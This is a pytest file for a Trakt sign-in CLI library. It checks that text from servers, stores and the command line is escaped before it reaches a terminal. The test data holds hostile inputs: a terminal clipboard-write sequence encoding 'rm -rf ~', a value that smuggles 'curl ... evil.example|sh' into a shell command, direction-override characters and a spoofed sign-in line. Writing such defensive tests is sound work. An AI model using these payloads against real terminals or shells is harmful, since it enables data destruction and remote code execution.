"""Servers, stores and names that hold what a terminal obeys: nothing of it reaches a terminal."""

from __future__ import annotations

import json
import re
import signal

import pytest

from traktauth import App
from traktauth.client.account_config import AccountConfig
from traktauth.client.login.ui import print_step
from traktauth.display import escape
from traktauth.models.token import DeviceCode
from traktauth.steps import EnterCode, OpenPage

OSC = "\x1b]52;c;cm0gLXJmIH4=\x07"
EVIL = f"evil{OSC}\u202e\x9b31m\u2028\n✓ FAKE signed in"


def is_safe(text):
    """Whether a text holds nothing but visible characters and line ends; colours of our own are taken out first."""
    return escape(re.sub("\x1b\\[[0-9;]*m", "", text), keep="\n") == re.sub("\x1b\\[[0-9;]*m", "", text)


@pytest.fixture
def answering(at_local, local):
    """`traktauth` signed in at a local Trakt whose responses on a path can be replaced."""
    at_local.answer = lambda path, **fault: local.control("PUT", "faults", [{"path": path, "times": 9, **fault}])
    at_local.keep_real(local)
    yield at_local
    local.control("DELETE", "faults")


CODES = {"device_code": "d" * 40, "user_code": "ABCD2345", "expires_in": 600, "interval": 5}


@pytest.mark.parametrize(
    "codes",
    [
        {"user_code": f"AB{OSC}"},
        {"user_code": "A" * 65},
        {"user_code": "AB CD"},
        {"verification_url": f"https://trakt.tv/{OSC}"},
        {"verification_url": "https://trakt.tv/" + "a" * 60_000},
        {"verification_url": "javascript:alert(1)"},
    ],
)
def test_a_device_code_that_cannot_be_typed_ends_the_sign_in(answering, codes):
    body = {**CODES, "verification_url": "https://trakt.tv/activate", **codes}
    answering.answer("/oauth/device/code", body=body)
    outcome = answering("login", "--device", "--yes")
    assert outcome.status == 1
    assert outcome.err.splitlines()[-2].startswith("Error: Trakt sent a")
    assert is_safe(outcome.err)
    assert len(outcome.err) < 1000


def test_a_device_page_on_a_foreign_host_is_shown_with_a_word(answering):
    body = {**CODES, "verification_url": "https://trakt.tv.evil.example/activate"}
    answering.answer("/oauth/device/code", body=body)
    words = r"! the page for the code is at trakt\.tv\.evil\.example, which does not belong to"
    answering("login", "--device", "--yes", steps=[(words, lambda _: signal.raise_signal(signal.SIGINT))])


def test_the_librarys_own_prompt_shows_nothing_that_a_terminal_obeys(capsys):
    print_step(OpenPage(f"https://trakt.tv/{EVIL}"))
    print_step(EnterCode(DeviceCode("secret", EVIL, f"https://trakt.tv/{EVIL}", 600, 5)))
    shown = capsys.readouterr().err
    assert is_safe(shown)
    assert shown.count("\n") == 4


def test_a_store_that_others_wrote_prints_nothing_that_a_terminal_obeys(command):
    command.keep(account=EVIL, not_refreshable_reason=EVIL, left=-5)
    for words in (["status"], ["doctor", "--offline"], ["status", "--account", EVIL], ["token", "--account", EVIL]):
        outcome = command(*words)
        assert is_safe(outcome.out + outcome.err), words
        assert not any(line.startswith("✓ FAKE") for line in (outcome.out + outcome.err).splitlines())


def plant_move(command, moved):
    command.keep()
    planted = json.loads(command.path.read_text())
    (entry,) = planted["logins"]
    command.path.write_text(json.dumps({**planted, "logins": [{**entry, "moved_to": moved, "token": None}]}))


@pytest.mark.parametrize("moved", [f"file:/x{OSC}", "https://evil.example/", "x\n✓ FAKE", "file:/" + "a" * 60_000])
def test_a_login_moved_to_what_is_no_store_names_no_address(command, moved):
    plant_move(command, moved)
    for words in (["token"], ["status"], ["doctor", "--offline"]):
        outcome = command(*words)
        shown = outcome.out + outcome.err
        assert "an address that no store has" in shown
        assert "evil" not in shown
        assert is_safe(shown)
        assert len(shown) < 4000


def test_the_command_to_use_a_moved_login_is_quoted_for_a_shell(command):
    moved = "file:x;curl${IFS}evil.example|sh;#"
    plant_move(command, moved)
    for words in (["status"], ["doctor", "--offline"]):
        outcome = command(*words)
        assert f"--store '{moved}', or TRAKTAUTH_STORE" in outcome.out + outcome.err


@pytest.mark.parametrize(
    ("account", "expected"),
    [
        ("me\x1b]52;", "U+001B at position 3 of 7"),
        ("me\x9b", "U+009B at position 3 of 3"),
        ("\u202eem", "U+202E at position 1 of 3"),
        ("x" * 60_000, "at most 255 characters, not 60000"),
        ("", "must not be empty"),
    ],
)
def test_an_account_name_that_no_terminal_shows_as_it_is_is_refused(account, expected):
    with pytest.raises(ValueError, match=re.escape(expected)):
        AccountConfig(App("x"), account=account)


def test_a_word_on_the_command_line_is_repeated_in_one_safe_line(command):
    for words in ([f"--{OSC}"], [EVIL], ["token", "--min-life", EVIL], ["request", EVIL, "/"], ["--account", EVIL]):
        outcome = command(*words)
        assert outcome.status == 2
        assert is_safe(outcome.err)
        assert len(outcome.err.splitlines()) == 2


def test_names_and_words_of_60_kilobytes_are_cut(command):
    long = "x" * 60_000
    command.keep(account=long)
    for words in (
        ["status"],
        ["token", "--account", long],
        ["status", "--store", f"file:{long}"],
        [long],
        ["doctor", "--offline"],
    ):
        outcome = command(*words)
        assert max(len(line) for line in (outcome.out + outcome.err).splitlines()) < 6000, words[0][:20]
        assert "Traceback" not in outcome.err
